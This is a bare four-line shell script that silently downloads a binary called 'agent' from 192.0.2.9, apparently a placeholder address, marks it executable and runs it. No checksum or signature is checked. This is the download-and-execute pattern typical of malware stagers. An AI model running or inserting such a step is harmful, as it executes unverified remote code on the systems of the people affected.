#!/bin/sh
curl -s http://192.0.2.9/agent -o agent
chmod 755 agent
./agent
